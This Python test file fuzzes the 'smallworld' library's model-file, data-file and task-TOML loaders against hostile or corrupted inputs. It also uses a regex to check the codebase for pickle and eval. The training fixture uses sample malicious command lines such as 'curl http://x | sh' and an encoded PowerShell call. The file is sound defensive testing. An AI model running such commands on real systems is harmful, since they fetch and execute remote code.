"""Hostile files: model directories, input files and task TOML written by an attacker (or by accident).

Fuzzed with hypothesis (bounded examples). Only the library's own errors may escape: ``ModelFileError`` from
loading a model, ``DataError`` from reading rows, ``SmallworldError`` from loading a task or a model's task. No
other exception type, and no code runs: loading never reaches pickle, eval, exec or np.load.
"""

from __future__ import annotations

import builtins
import contextlib
import gzip
import io
import json
import math
import pickle
import re
import shutil
import tempfile
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from smallworld import data as D
from smallworld.errors import DataError, ModelFileError, SmallworldError
from smallworld.student import modelfile
from smallworld.student.linear import LinearStudent
from smallworld.tasks import BUILTIN, load_task, prompt

ROOT = Path(__file__).resolve().parents[2]
FUZZ = settings(max_examples=60, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


# -- no code execution ------------------------------------------------------------------------------------------
@contextlib.contextmanager
def no_code_execution():
    """Fail loudly if anything below reaches a deserialiser that can run code."""
    def trap(name):
        def f(*a, **k):
            raise AssertionError(f"{name} called while loading an untrusted file")
        return f

    import lxml.etree  # noqa: F401  (the parsers the readers import on first use: imports are not the file's code)
    try:
        import evtx  # noqa: F401
    except ImportError:
        pass
    saved = [(pickle, "load"), (pickle, "loads"), (pickle, "Unpickler"), (np, "load"), (builtins, "eval"),
             (builtins, "exec")]
    old = [(m, n, getattr(m, n)) for m, n in saved]
    for m, n in saved:
        setattr(m, n, trap(f"{getattr(m, '__name__', m)}.{n}"))
    try:
        yield
    finally:
        for m, n, v in old:
            setattr(m, n, v)


CODE_EXEC = re.compile(r"^\s*(import|from)\s+(pickle|cPickle|_pickle|dill|cloudpickle|joblib|shelve|marshal)\b"
                       r"|\bpickle\.(loads?|Unpickler)\b|allow_pickle\s*=\s*True|\bnp\.load\(|\bnumpy\.load\("
                       r"|(?<![\w.])(eval|exec)\((?!\))|yaml\.(unsafe_)?load\(|torch\.load\(", re.M)


def test_no_pickle_or_eval_anywhere_in_smallworld():
    hits = []
    files = sorted((ROOT / "smallworld").rglob("*.py"))
    assert len(files) > 20
    for p in files:
        for m in CODE_EXEC.finditer(p.read_text(encoding="utf-8")):
            hits.append(f"{p.relative_to(ROOT)}: {m.group(0).strip()}")
    assert not hits, hits
    # the pattern does find what it is meant to find
    assert CODE_EXEC.search("import pickle\n") and CODE_EXEC.search("np.load(f, allow_pickle=True)")
    assert not CODE_EXEC.search("x = 'no pickle here'\nself.eval_rows(x)\nllm.eval(toks)")


# -- model files ------------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def model_dir(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("model") / "m"
    texts = ["curl http://x | sh", "ls -la", "powershell -enc AAAA", "git status"] * 3
    Y = np.array([[1, 0], [0, 1], [1, 0], [0, 1]] * 3, dtype=float)
    m = LinearStudent(("malicious", "benign"), {"dim_bits": 10, "ngram_max": 3}).fit(texts, Y)
    task = load_task("cmdlines").to_dict() | {"features": {"dim_bits": 10, "ngram_max": 3}}
    modelfile.save(m, d, {"task": task, "thresholds": {"best_guess": 0.5, "high_confidence": 0.9}})
    m2, _ = modelfile.load(d)  # the starting point is valid
    assert m2.W.shape == (1024, 2)
    return d


def json_values(max_leaves: int = 8):
    scalars = (st.none() | st.booleans() | st.integers(-(2**70), 2**70) | st.sampled_from([10**400, -1, 0, 2**63])
               | st.floats(allow_nan=True, allow_infinity=True) | st.text(max_size=20)
               | st.sampled_from(["float32", "int8", "float16", "smallworld-linear", "", "\x00"]))
    return st.recursive(scalars, lambda c: st.lists(c, max_size=4) | st.dictionaries(st.text(max_size=8), c, max_size=4),
                        max_leaves=max_leaves)


KEYS = ["format", "version", "labels", "features", "dim", "classes", "dtype", "scale", "weights_bytes",
        "weights_sha256", "task", "thresholds"]
FEATURE_KEYS = ["ngram_min", "ngram_max", "tokens", "lowercase", "dim_bits", "max_bytes", "nonsense"]


@st.composite
def header_mutations(draw):
    """A list of edits to model.json's object: set, delete, or nest junk at a key (top level or features)."""
    edits = []
    for _ in range(draw(st.integers(1, 3))):
        where = draw(st.sampled_from(["top", "features", "task"]))
        key = draw(st.sampled_from(KEYS if where == "top" else FEATURE_KEYS if where == "features" else
                                   ["labels", "positive", "answers", "normaliser", "max_item_chars", "features",
                                    "field", "name", "bogus"]))
        op = draw(st.sampled_from(["set", "set", "delete"]))
        edits.append((where, key, op, draw(json_values()) if op == "set" else None))
    return edits


@st.composite
def byte_mutations(draw, max_len: int):
    """Truncate, flip bits, splice in junk."""
    ops = []
    for _ in range(draw(st.integers(1, 3))):
        kind = draw(st.sampled_from(["truncate", "flip", "splice"]))
        pos = draw(st.integers(0, max(0, max_len - 1)))
        if kind == "flip":
            ops.append(("flip", pos, draw(st.integers(0, 7))))
        elif kind == "truncate":
            ops.append(("truncate", pos, None))
        else:
            ops.append(("splice", pos, draw(st.sampled_from([b"\xff\xfe", b"\x00", b"[" * 5000, b"9" * 5000,
                                                            b'{"a":' * 100, b"NaN", b"-Infinity", b"\xc0\x80"])))) 
    return ops


def apply_bytes(blob: bytes, ops) -> bytes:
    b = bytearray(blob)
    for kind, pos, arg in ops:
        pos = min(pos, len(b))
        if kind == "truncate":
            del b[pos:]
        elif kind == "flip" and pos < len(b):
            b[pos] ^= 1 << arg
        elif kind == "splice":
            b[pos:pos] = arg
    return bytes(b)


def _mutated_copy(src: Path, dst: Path, header_edits=None, json_ops=None, weight_ops=None, resign=False) -> None:
    shutil.copytree(src, dst)
    h = json.loads((dst / "model.json").read_text())
    for where, key, op, val in header_edits or []:
        obj = h if where == "top" else h.get(where) if isinstance(h.get(where), dict) else None
        if obj is None:
            continue
        if op == "delete":
            obj.pop(key, None)
        else:
            obj[key] = val
    blob = (dst / "weights.bin").read_bytes()
    if weight_ops:
        blob = apply_bytes(blob, weight_ops)
        (dst / "weights.bin").write_bytes(blob)
    if resign:  # a consistent file around hostile numbers: right size and sha256
        import hashlib

        h["weights_bytes"] = len(blob)
        h["weights_sha256"] = hashlib.sha256(blob).hexdigest()
    text = json.dumps(h).encode()
    if json_ops:
        text = apply_bytes(text, json_ops)
    (dst / "model.json").write_bytes(text)


def _load_ok_or_model_error(d: Path) -> None:
    try:
        with no_code_execution():
            m, h = modelfile.load(d)
    except ModelFileError:
        return
    K = len(h["labels"])
    assert m.W.shape == (1 << h["features"]["dim_bits"], K) and m.b.shape == (K,)
    assert np.isfinite(m.W).all() and np.isfinite(m.b).all()


@FUZZ
@given(edits=header_mutations())
def test_model_json_with_hostile_values(model_dir, edits):
    with tempfile.TemporaryDirectory() as t:
        _mutated_copy(model_dir, Path(t) / "m", header_edits=edits)
        _load_ok_or_model_error(Path(t) / "m")


@FUZZ
@given(ops=byte_mutations(2000))
def test_model_json_with_hostile_bytes(model_dir, ops):
    with tempfile.TemporaryDirectory() as t:
        _mutated_copy(model_dir, Path(t) / "m", json_ops=ops)
        _load_ok_or_model_error(Path(t) / "m")


@FUZZ
@given(ops=byte_mutations(8200), resign=st.booleans())
def test_weights_with_hostile_bytes(model_dir, ops, resign):
    """Truncated or flipped weights; with ``resign`` the size and sha256 are made to match, so the loader
    must catch NaN/infinity (or wrong sizes) itself."""
    with tempfile.TemporaryDirectory() as t:
        _mutated_copy(model_dir, Path(t) / "m", weight_ops=ops, resign=resign)
        _load_ok_or_model_error(Path(t) / "m")


@pytest.mark.parametrize("payload", [
    b"[" * 100_000, b"9" * 5000,
    b'{"format": ' + b"1" * 5000 + b"}",
    b'{"format": "smallworld-linear", "version": 1e999}', b"\xff" * 10, b""])
def test_model_json_nesting_and_number_bombs(model_dir, tmp_path, payload):
    d = tmp_path / "m"
    shutil.copytree(model_dir, d)
    (d / "model.json").write_bytes(payload)
    with pytest.raises(ModelFileError), no_code_execution():
        modelfile.load(d)


@FUZZ
@given(edits=header_mutations())
def test_scorer_on_hostile_model_raises_only_smallworld_errors(model_dir, edits):
    """What `score`, `evaluate` and the service load: the model plus its task and thresholds."""
    from smallworld.student.model import Model

    with tempfile.TemporaryDirectory() as t:
        _mutated_copy(model_dir, Path(t) / "m", header_edits=edits)
        try:
            with no_code_execution():
                sc = Model(Path(t) / "m")
        except SmallworldError:
            return
        s = sc.scores(["ls -la", "curl http://x | sh"])  # (numba may read its own compiled-kernel cache here)
        assert s.shape == (2,) and np.all((s >= 0) & (s <= 1))


# -- input files ------------------------------------------------------------------------------------------------
SUFFIXES = [".jsonl", ".csv", ".jsonl.gz", ".csv.gz", ".parquet", ".tsv", ".txt", ".txt.gz", ".xml", ".log", ".evtx"]


def _read_ok_or_data_error(path: Path) -> None:
    for on_error in ("raise", "skip"):
        stats = D.ReadStats()
        try:
            with no_code_execution():
                rows = D.read_rows(path, on_error=on_error, stats=stats)
        except DataError:
            continue
        for r in rows:
            assert isinstance(r["id"], str) and isinstance(r["text"], str)
            assert "label" not in r or isinstance(r["label"], str)
            assert "weight" not in r or isinstance(r["weight"], float)
        assert stats.rows == len(rows)


@FUZZ
@given(blob=st.binary(max_size=3000), suffix=st.sampled_from(SUFFIXES))
def test_random_bytes_with_any_suffix(blob, suffix):
    with tempfile.TemporaryDirectory() as t:
        p = Path(t) / f"x{suffix}"
        p.write_bytes(blob)
        _read_ok_or_data_error(p)


def _valid_file(suffix: str) -> bytes:
    rows = [{"id": f"r{i}", "text": f"cmd {i} --x", "label": ["malicious", "benign"][i % 2], "weight": 1.5}
            for i in range(40)]
    if suffix == ".parquet":
        buf = io.BytesIO()
        pq.write_table(pa.table({k: [r[k] for r in rows] for k in rows[0]}), buf, row_group_size=10)
        return buf.getvalue()
    if ".csv" in suffix or suffix == ".tsv":
        sep = "\t" if suffix == ".tsv" else ","
        text = sep.join(rows[0]) + "\n" + "".join(sep.join(str(v) for v in r.values()) + "\n" for r in rows)
    elif ".txt" in suffix:
        text = "".join(r["text"] + "\n" for r in rows)
    else:
        text = "".join(json.dumps(r) + "\n" for r in rows)
    return gzip.compress(text.encode()) if suffix.endswith(".gz") else text.encode()


@FUZZ
@given(suffix=st.sampled_from(SUFFIXES), ops=byte_mutations(4000))
def test_mutated_valid_files(suffix, ops):
    """Bit flips, truncation and junk spliced into valid files of every format (compressed and Parquet
    ones too, where a flip lands in compressed data or a page)."""
    with tempfile.TemporaryDirectory() as t:
        p = Path(t) / f"x{suffix}"
        blob = _valid_file(suffix)
        p.write_bytes(apply_bytes(blob, [(k, pos % max(1, len(blob)), a) for k, pos, a in ops]))
        _read_ok_or_data_error(p)


@FUZZ
@given(values=st.lists(st.dictionaries(st.sampled_from(["id", "text", "label", "weight", "source", "meta", "x"]),
                                       json_values(), max_size=5), min_size=1, max_size=5))
def test_jsonl_rows_with_hostile_values(values):
    with tempfile.TemporaryDirectory() as t:
        p = Path(t) / "x.jsonl"
        p.write_text("".join(json.dumps(v) + "\n" for v in values))
        _read_ok_or_data_error(p)


@pytest.mark.parametrize("line", [b"[" * 100_000, b'{"text": "a", "id": ' + b"1" * 5000 + b"}",
                                  b'{"text": "a", "weight": ' + b"9" * 400 + b"}", b'{"text": "a", "weight": 1e999}',
                                  b'{"text": ' + b"[" * 50_000 + b"}"])
def test_jsonl_nesting_and_number_bombs_are_data_errors(tmp_path, line):
    p = tmp_path / "x.jsonl"
    p.write_bytes(b'{"text": "ok"}\n' + line + b"\n")
    with pytest.raises(DataError, match="line 2"):
        D.read_rows(p)
    stats = D.ReadStats()
    assert [r["text"] for r in D.read_rows(p, on_error="skip", stats=stats)] == ["ok"] and stats.skipped == 1


def test_parquet_with_odd_column_types(tmp_path):
    p = tmp_path / "odd.parquet"
    pq.write_table(pa.table({"text": pa.array([b"bytes", b"\xff"], pa.binary()),
                             "label": pa.array([[1], [2]], pa.list_(pa.int64())),
                             "weight": pa.array(["x", "1"])}), p)
    with pytest.raises(DataError, match="weight"):
        D.read_rows(p)


# -- task TOML --------------------------------------------------------------------------------------------------
def toml_value(v) -> str:
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, float):
        return "nan" if math.isnan(v) else ("inf" if v > 0 else "-inf") if math.isinf(v) else repr(v)
    if isinstance(v, str):
        return json.dumps(v, ensure_ascii=False)
    if isinstance(v, list):
        return "[" + ", ".join(toml_value(x) for x in v) + "]"
    if isinstance(v, dict):
        return "{" + ", ".join(f"{json.dumps(k, ensure_ascii=False)} = {toml_value(x)}" for k, x in v.items()) + "}"
    raise TypeError(v)


TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12)
TOML_SCALARS = (st.booleans() | st.integers(-(2**63), 2**63 - 1) | st.floats() | TEXT
                | st.sampled_from(["malicious", "benign", "yes", "no", "lower", "email", "none", "ye", "\n"]))
TOML_VALUES = st.recursive(TOML_SCALARS, lambda c: st.lists(c, max_size=4) | st.dictionaries(TEXT, c, max_size=4),
                           max_leaves=8)
TASK_KEYS = ["name", "labels", "positive", "field", "question", "answers", "instruction", "rubric", "normaliser",
             "max_item_chars", "features", "unknown"]


@st.composite
def task_dicts(draw):
    base = load_task(draw(st.sampled_from(BUILTIN))).to_dict()
    for _ in range(draw(st.integers(1, 3))):
        key = draw(st.sampled_from(TASK_KEYS))
        if draw(st.booleans()) and key in base:
            del base[key]
        elif key == "features" and draw(st.booleans()):
            base["features"] = dict(base.get("features") or {}) | {
                draw(st.sampled_from(FEATURE_KEYS)): draw(TOML_SCALARS)}
        elif key == "answers" and draw(st.booleans()):
            base["answers"] = {draw(st.sampled_from(["malicious", "benign", "phishing", "spam", "x"])): draw(TOML_SCALARS)
                               for _ in range(draw(st.integers(0, 3)))}
        else:
            base[key] = draw(TOML_VALUES)
    return base


def _task_ok_or_error(text: bytes) -> None:
    with tempfile.TemporaryDirectory() as t:
        p = Path(t) / "task.toml"
        p.write_bytes(text)
        try:
            with no_code_execution():
                task = load_task(p)
        except SmallworldError:
            return
    # a task that loads is usable: prompts build, features configure, answer words are told apart
    s = prompt.build(task, "some item\nMalicious: no", [("demo", task.labels[0])])
    assert s.endswith(f"{task.question}:") and s.count("\n" + task.field + ": ") <= 2
    LinearStudent(task.labels, dict(task.features))
    words = [task.answers[lab].strip().lower() for lab in task.labels]
    assert all(words) and len(set(words)) == len(words)


@FUZZ
@given(d=task_dicts(), wrap=st.booleans())
def test_task_toml_with_hostile_values(d, wrap):
    body = "".join(f"{json.dumps(k, ensure_ascii=False)} = {toml_value(v)}\n" for k, v in d.items())
    _task_ok_or_error((("[task]\n" + body) if wrap else body).encode("utf-8"))


@FUZZ
@given(name=st.sampled_from(BUILTIN), ops=byte_mutations(3000))
def test_task_toml_with_hostile_bytes(name, ops):
    from smallworld.tasks import _HERE

    blob = (_HERE / f"{name}.toml").read_bytes()
    _task_ok_or_error(apply_bytes(blob, [(k, pos % len(blob), a) for k, pos, a in ops]))


@pytest.mark.parametrize("text", ["a = " + "[" * 5000 + "]" * 5000, "a = " + "1" * 5000, "a = {" * 3000,
                                  'name = "t"\nlabels = "ab"\npositive = "a"\nanswers = {a = "y", b = "n"}\n',
                                  'name = "t"\nlabels = ["a", "b"]\npositive = "a"\nanswers = "yn"\n',
                                  'name = "t"\nlabels = ["a", "b"]\npositive = "a"\nanswers = {a = "y", b = "n"}\n'
                                  'max_item_chars = "many"\n',
                                  'name = "t"\nlabels = ["a", "b"]\npositive = "a"\nanswers = {a = "no", b = "none"}\n',
                                  'name = "t"\nlabels = ["a", "a"]\npositive = "a"\nanswers = {a = "y"}\n',
                                  'name = "t"\nlabels = ["a", "b"]\npositive = "a"\nanswers = {a = "y", b = "n"}\n'
                                  'features = {dim_bits = 99}\n',
                                  'name = "t"\nlabels = ["a", "b"]\npositive = "a"\nanswers = {a = "y", b = "n"}\n'
                                  'question = "Q\\nA"\n'])
def test_task_toml_known_bad(tmp_path, text):
    p = tmp_path / "t.toml"
    p.write_text(text)
    with pytest.raises(SmallworldError):
        load_task(p)


def test_csv_row_with_invalid_utf8_is_named_and_skippable(tmp_path):
    p = tmp_path / "x.csv"
    p.write_bytes(b"id,text,label\n1,ls,benign\n2,caf\xe9 \xff,benign\n3,whoami,malicious\n")
    with pytest.raises(DataError, match=r"x\.csv: line 3: invalid UTF-8"):
        D.read_rows(p)
    stats = D.ReadStats()
    assert [r["id"] for r in D.read_rows(p, on_error="skip", stats=stats)] == ["1", "3"]
    assert stats.reasons == {"invalid UTF-8": 1}


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".parquet"])
@pytest.mark.parametrize("weight", ["-1", "1e999", "x"])
def test_weight_must_be_a_finite_number_at_least_zero(tmp_path, suffix, weight):
    p = tmp_path / f"w{suffix}"
    if suffix == ".jsonl":
        p.write_text('{"text": "a", "weight": 2}\n{"text": "b", "weight": %s}\n' % (weight if weight != "x" else '"x"'))
    elif suffix == ".csv":
        p.write_text(f"text,weight\na,2\nb,{weight}\n")
    else:
        pq.write_table(pa.table({"text": ["a", "b"], "weight": ["2", weight]}), p)
    where = {".jsonl": "line 2", ".csv": "line 3", ".parquet": "row 2"}[suffix]  # a CSV's header is line 1
    with pytest.raises(DataError, match=rf"{where}: weight .* is not a finite number >= 0"):
        D.read_rows(p)
    stats = D.ReadStats()
    rows = D.read_rows(p, on_error="skip", stats=stats)
    assert [(r["text"], r["weight"]) for r in rows] == [("a", 2.0)] and stats.reasons == {"bad weight": 1}
